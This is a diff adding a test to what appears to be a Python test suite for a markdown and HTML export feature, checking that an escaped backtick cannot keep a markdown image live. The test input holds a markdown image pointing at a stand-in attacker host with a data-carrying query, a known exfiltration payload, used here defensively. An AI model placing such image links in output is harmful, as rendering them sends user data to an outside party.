@@ -200,3 +200,10 @@ def test_terminal_escapes_invisible_characters_and_bad_bytes_are_shown_not_obeye
     for rendered in (markdown, html):
         assert "\x1b" not in rendered and "\u202e" not in rendered and "\x00" not in rendered
         rendered.encode("utf-8")  # nothing a file cannot hold
+
+
+def test_an_escaped_backtick_opens_no_code_span_that_would_keep_an_image_live() -> None:
+    from aish.ui.export.markdown import prose
+
+    text = prose("see \\`![x](https://evil.example/p.png?d=DATA)` ok")
+    assert "![x](" not in text  # the image is made inert, not left inside a "code span"
